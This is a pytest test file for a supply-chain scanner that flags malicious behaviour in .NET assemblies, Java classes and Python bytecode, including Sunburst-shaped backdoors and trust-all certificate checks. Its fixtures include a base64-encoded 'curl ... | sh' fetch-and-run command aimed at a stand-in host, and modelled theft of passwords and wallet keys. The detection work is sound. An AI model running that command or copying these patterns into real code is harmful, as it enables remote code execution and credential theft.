"""Managed code: the example's two assemblies, Java classes, Python bytecode."""

import marshal

import pytest

from beartrap.model.coverage import Gap
from beartrap.model.finding import Severity
from beartrap.model.place import Place
from beartrap.model.verdict import Admission
from beartrap.vet.analyser import FileSubject
from beartrap.vet.binary import il, managed
from beartrap.vet.binary.assembly import Assembly, Method
from beartrap.vet.binary.bytecode import BytecodeOnlyAnalyser, marshalled_names
from beartrap.vet.binary.ends import DOTNET, chains
from beartrap.vet.binary.hidden import in_base64
from beartrap.vet.binary.managed import NewThreadAnalyser
from beartrap.vet.binary.mirrored import mirrors_source
from beartrap.vet.binary.nests import NestAnalyser
from beartrap.vet.facts import PackageFacts
from beartrap.vet.kinds import Kind
from beartrap.vet.verdict import judge
from vet.binary.binary_lab import DLL, Version, assembly, java_class, keys, look

PYC = b"\xa7\x0d\r\n" + b"\0" * 12 + b"\xe3" + b"\0" * 20 + b"\xda\x0asubprocess" + b"\xda\x06socket" + b"\xfa\x04a.py"


def test_the_honest_version_shows_nothing():
    assert keys(assembly("old"), Kind.DOTNET, DLL) == set()


def test_the_shape_of_sunburst_shows_in_class_strings_and_hashes():
    found = {one.id: one for one in look(assembly("new"), Kind.DOTNET, DLL)}
    assert {"managed.class-capabilities", "binary.hidden-text", "managed.name-hashes"} <= set(found)
    owner = dict(found["managed.class-capabilities"].facts)["symbol"]
    assert owner == "Tideline.Core.BusinessLayer.ImprovementLayer"
    hidden = [one for one in look(assembly("new"), Kind.DOTNET, DLL) if one.id == "binary.hidden-text"]
    assert [layer.encoding for layer in hidden[0].layers] == ["base64", "deflate"]
    assert any(one.quote == "beacon.tideline.invalid" for one in hidden)


@pytest.mark.parametrize(("key", "hidden"), [(0, False), (0x0B, True)], ids=["as it is", "under a key"])
def test_a_text_of_several_lines_hides_nothing_unless_it_is_changed(key: int, hidden: bool) -> None:
    was, text = " has not been seen for a day", "Why?\nhttps://x.invalid/a\nsee"
    said = "".join(chr(ord(one) ^ key) for one in text)
    assert len(was) == len(said)
    content = assembly("old").replace(was.encode("utf-16-le"), said.encode("utf-16-le"))
    found = {one.id for one in look(content, Kind.DOTNET, DLL)}
    assert ("binary.hidden-text" in found) is hidden


def test_every_behaviour_has_an_offset_and_the_class_its_symbol():
    assert all(one.place.offset for one in look(assembly("new"), Kind.DOTNET, DLL))


def test_an_old_method_starts_a_new_class():
    old, new = Version({DLL: (assembly("old"), Kind.DOTNET)}), Version({f"bin/{DLL}": (assembly("new"), Kind.DOTNET)})
    found = list(NewThreadAnalyser().look(old, new))
    assert len(found) == 1
    assert dict(found[0].facts)["symbol"] == "Tideline.Core.BusinessLayer.InventoryManager::RefreshInternal"
    assert "ImprovementLayer::Initialize" in found[0].quote
    assert not list(NewThreadAnalyser().look(new, new)) and not list(NewThreadAnalyser().look(None, new))


def test_the_update_in_the_shape_of_sunburst_is_blocked():
    old, new = Version({DLL: (assembly("old"), Kind.DOTNET)}), Version({DLL: (assembly("new"), Kind.DOTNET)})
    before = keys(assembly("old"), Kind.DOTNET, DLL)
    found = [one for one in look(assembly("new"), Kind.DOTNET, DLL) if one.key not in before]
    assert judge([*found, *NewThreadAnalyser().look(old, new)]).verdict is Admission.BLOCK


@pytest.mark.parametrize("at", range(128, 11000, 997))
def test_a_damaged_assembly_is_a_gap_or_findings_and_never_a_crash(at):
    content = bytearray(assembly("new"))
    content[at : at + 16] = b"\xff" * 16
    look(bytes(content), Kind.DOTNET, DLL)
    look(assembly("new")[:at], Kind.DOTNET, DLL)


def test_a_java_class_that_downloads_and_runs():
    found = keys(java_class("a/B", "java/net/URL::openStream", "java/lang/Runtime::exec"), Kind.BYTECODE, "a/B.class")
    assert "managed.class-capabilities:network+process" in found
    near = keys(
        java_class("a/B", "java/net/URL::toString", "java/lang/Runtime::freeMemory"), Kind.BYTECODE, "a/B.class"
    )
    assert near == set()


COMMAND = "Y3VybCAtcyBodHRwczovL3BhcGVyLWNyYW5lLmV4YW1wbGUvaSB8IHNo"
"""`curl -s https://paper-crane.example/i | sh` in base64."""


def test_a_java_class_that_runs_what_it_decodes():
    members = ("java/util/Base64::getDecoder", "java/lang/ProcessBuilder::start")
    found = keys(java_class("a/B", *members, texts=(COMMAND,)), Kind.BYTECODE, "a/B.class")
    assert any(key.startswith("managed.chain") and "decoded to process" in key for key in found), found
    plain = keys(java_class("a/B", *members, texts=("--version",)), Kind.BYTECODE, "a/B.class")
    assert not any("decoded to process" in key for key in plain)


def test_text_under_base64_is_found_behind_a_length_that_reads_as_a_letter():
    content = b"\x01\x00" + bytes((len(COMMAND),)) + COMMAND.encode() + b"\x01\x00\x04init"
    assert any("curl -s" in found.text for found in in_base64(content))


RETURN, YES = b"\xb1", b"\x04\xac"
UNDOES = b"\x2b\x1c\x5c\x33\x10\x5c\x82\x91\x54\xb1"
"""`bytes[at] ^= 92`, as Java's compiler writes it."""


def test_a_java_class_that_trusts_everybody():
    manager = ("javax/net/ssl/X509TrustManager",)
    found = keys(java_class("a/B", above=manager, methods={"checkServerTrusted": RETURN}), Kind.BYTECODE, "a/B.class")
    assert "managed.unchecked:checkServerTrusted" in found
    asks = {"checkServerTrusted": b"\x2a\xb4\x00\x02\x2b\x2c\xb6\x00\x03\xb1"}
    assert not keys(java_class("a/B", above=manager, methods=asks), Kind.BYTECODE, "a/B.class")
    assert not keys(java_class("a/B", methods={"checkServerTrusted": RETURN}), Kind.BYTECODE, "a/B.class")


def test_a_java_class_whose_lambda_accepts_any_host():
    sets = "javax/net/ssl/HttpsURLConnection::setDefaultHostnameVerifier"
    found = keys(java_class("a/B", sets, methods={"lambda$static$0": YES}), Kind.BYTECODE, "a/B.class")
    assert "managed.unchecked:lambda" in found
    compares = keys(java_class("a/B", sets, methods={"lambda$static$0": b"\x2a\xb6\x00\x02\xac"}), Kind.BYTECODE)
    assert not any(key.startswith("managed.unchecked") for key in compares)


def test_a_java_class_that_defines_what_it_undoes():
    defines = "java/lang/invoke/MethodHandles$Lookup::defineClass"
    found = keys(java_class("a/B", defines, methods={"<clinit>": UNDOES}), Kind.BYTECODE, "a/B.class")
    assert any("decoded to code" in key for key in found)
    plain = keys(java_class("a/B", defines, methods={"<clinit>": RETURN}), Kind.BYTECODE, "a/B.class")
    assert not any("decoded to code" in key for key in plain)


def test_a_java_class_that_defines_a_file_of_its_own():
    members = ("java/lang/Class::getResourceAsStream", "java/lang/ClassLoader::defineClass")
    found = keys(java_class("a/B", *members, texts=("/META-INF/icons.idx",)), Kind.BYTECODE, "a/B.class")
    assert any("file to code" in key for key in found)
    loader = keys(java_class("a/B", *members, texts=(".class",)), Kind.BYTECODE, "a/B.class")
    assert not any("file to code" in key for key in loader)


@pytest.mark.parametrize(
    ("members", "told"),
    [
        (("System.Guid::ToByteArray", "System.Reflection.Assembly::Load"), True),
        ((il.DECODER, "System.Diagnostics.Process::Start"), True),
        (("kernel32!VirtualAlloc", "System.Runtime.InteropServices.Marshal::Copy"), True),
        (("System.Guid::ToByteArray", "System.IO.File::ReadAllBytes"), False),
        ((il.DECODER, "System.IO.File::WriteAllBytes"), False),
        (("kernel32!GetTickCount", "System.Runtime.InteropServices.Marshal::Copy"), False),
    ],
)
def test_both_ends_of_a_chain_in_one_type(members, told):
    assert bool(list(chains(DOTNET, members, ()))) == told


def test_the_shapes_of_il_bodies():
    assert il.reckons(b"\x06\x07\x06\x07\x91\x1f\x5a\x61\xd2\x9c\x2a")  # bytes[at] = (byte)(bytes[at] ^ 90)
    assert il.reckons(
        b"\x06\x07\x8f\x0e\x00\x00\x01\x25\x47\x7e\x06\x00\x00\x04\x07\x91\x61\xd2\x52"
    )  # bytes[at] ^= key[at]
    assert not il.reckons(b"\x06\x07\x61\x0a\x06\x2a")  # a hash goes on reckoning with it
    assert il.says_yes(b"\x17\x2a")
    assert not il.says_yes(b"\x16\x2a")


def test_a_broken_class_is_a_gap():
    whole = java_class("a/B", "java/lang/Runtime::exec")
    assert any(isinstance(one, Gap) for one in look(whole[:30], Kind.BYTECODE, "a/B.class"))


def test_names_in_bytecode_are_read_without_unmarshalling():
    assert {"subprocess", "socket", "a.py"} <= {name for name, _ in marshalled_names(PYC)}
    found = look(PYC, Kind.BYTECODE, "pkg/a.pyc")
    assert "binary.network-and-process" in {one.key for one in found}


def test_bytecode_without_source():
    bare = Version({"pkg/a.pyc": (PYC, Kind.BYTECODE)})
    both = Version({"pkg/__pycache__/a.cpython-311.pyc": (PYC, Kind.BYTECODE), "pkg/a.py": (b"x = 1\n", Kind.PYTHON)})
    assert [one.severity for one in BytecodeOnlyAnalyser().look(bare)] == [Severity.MEDIUM]
    cached = Version({"pkg/__pycache__/a.cpython-311.pyc": (PYC, Kind.BYTECODE)})  # nothing is imported from there
    assert [one.severity for one in BytecodeOnlyAnalyser().look(cached)] == [Severity.LOW]
    assert not list(BytecodeOnlyAnalyser().look(both))


SOURCE = """
import subprocess
from urllib.request import urlopen

def fetch(name):
    # never os.environ
    return subprocess.check_output(["git", urlopen("https://pages.vendor.invalid/" + name).read()])
"""


@pytest.mark.parametrize(
    ("compiled", "same"),
    [
        (SOURCE, True),
        (SOURCE.replace("fetch", "other").replace("git", "svn"), True),  # neither acts
        (SOURCE.replace("pages.vendor", "pages.other"), False),
        (SOURCE + "import os\nx = os.environ\n", False),
        (SOURCE + "exec('1')\n", False),
        (SOURCE + f"x = '{'q' * 60}'\n", False),
    ],
)
def test_bytecode_that_says_what_its_source_says(compiled: str, same: bool) -> None:
    raw = b"\xa7\r\r\n" + bytes(12) + marshal.dumps(compile(compiled, "pkg/a.py", "exec"))
    path = "pkg/__pycache__/a.cpython-311.pyc"
    side = Version({path: (raw, Kind.BYTECODE), "pkg/a.py": (SOURCE.encode(), Kind.PYTHON)})
    assert mirrors_source(side, path) == same
    assert not mirrors_source(Version({path: (raw, Kind.BYTECODE)}), path)


def _method(*parameters: str, text: str, call: str = "System.Net.Sockets.UdpClient::Send") -> Method:
    return Method("Record", "N.Audit", 0x40, [call], strings=[(text, 0x50)], parameters=parameters)


@pytest.mark.parametrize(
    ("method", "told"),
    [
        (_method("name", "password", text="telemetry.northwind.invalid"), True),
        (
            _method(
                "name",
                "password",
                text="https://forms.northwind.invalid/l",
                call="System.Net.Http.HttpClient::PostAsync",
            ),
            True,
        ),
        (_method("name", "password", text="N"), False),
        (_method("name", "id", text="telemetry.northwind.invalid"), False),
        (_method("name", "password", text="telemetry.northwind.invalid", call="System.Text.Encoding::GetBytes"), False),
    ],
)
def test_a_method_that_is_handed_a_password_and_names_whom_it_speaks_with(method, told):
    one = FileSubject(Place("pkg"), "a.dll", b"", Kind.DOTNET, "0" * 64, PackageFacts("nuget"))
    found = [seen.facts for seen in managed._chained(one, "N.Audit", [method])]
    assert bool(found) == told


CARRIES = "java/lang/Class::getResourceAsStream"


def _nest(inner: tuple[str, ...], outer: tuple[str, ...], parent: str, texts: tuple[str, ...] = ()) -> list[str]:
    files = {
        "a/B.class": (java_class("a/B", *outer, texts=texts), Kind.BYTECODE),
        "a/B$1.class": (java_class("a/B$1", *inner, above=(parent,)), Kind.BYTECODE),
    }
    return [one.key for one in NestAnalyser().look(Version(files))]


def test_a_class_within_another_defines_code_of_what_that_one_reads():
    own = ("a/B$1::defineClass",)
    assert _nest(own, (CARRIES,), "java/lang/ClassLoader") == ["managed.chain:file to code"]
    assert _nest(own, (CARRIES,), "java/lang/Object") == []  # a method of that name
    assert (
        _nest(own, (CARRIES,), "java/lang/ClassLoader", texts=(".class",)) == []
    )  # a loader of classes by their names
    assert _nest(own, ("java/util/List::add",), "java/lang/ClassLoader") == []
    assert _nest((), (CARRIES,), "java/lang/ClassLoader") == []


@pytest.mark.parametrize(
    ("texts", "numbers", "found"),
    [(["0x", "https://gas.invalid/api"], [66], True), (["0x", "https://gas.invalid/api"], [42], False), (["0x", "gas"], [66], False)],
)  # fmt: skip
def test_a_key_that_is_told_by_its_shape_goes_to_the_network(texts: list[str], numbers: list[int], found: bool) -> None:
    calls = ["System.String::StartsWith", "System.String::get_Length", "System.Net.WebClient::UploadString"]
    method = Method("Normal", "N.Upkeep", 0x40, calls, strings=[(one, 0x50) for one in texts], numbers=numbers)
    one = FileSubject(Place("pkg"), "a.dll", b"", Kind.DOTNET, "0" * 64, PackageFacts("nuget"))
    named = [seen.key for seen in managed._chained(one, "N.Upkeep", [method])]
    assert ("managed.chain:wallet key to network" in named) == found


@pytest.mark.parametrize(
    ("parameters", "through", "address", "found"),
    [
        (("wallet", "password"), "N.Upkeep::Send", "http://gas.invalid/api?k=", True),
        (("wallet", "text"), "N.Upkeep::Send", "http://gas.invalid/api?k=", False),
        (("wallet", "password"), "N.Upkeep::Log", "http://gas.invalid/api?k=", False),
        (("wallet", "password"), "N.Upkeep::Send", "{0}/api", False),
    ],
)
def test_a_password_goes_to_the_network_through_another_method(
    parameters: tuple[str, ...], through: str, address: str, found: bool
) -> None:
    opens = Method("Unlock", "N.Wallet", 0x40, [through], parameters=parameters)
    sends = Method("Send", "N.Upkeep", 0x60, ["System.Net.WebClient::DownloadString"], strings=[(address, 0x70)])
    whole = Assembly({"N.Wallet": [opens], "N.Upkeep": [sends]}, (), (), {}, True)
    one = FileSubject(Place("pkg"), "a.dll", b"", Kind.DOTNET, "0" * 64, PackageFacts("nuget"))
    named = [seen.key for seen in managed._classes(one, whole)]
    assert ("managed.chain:password to network" in named) == found
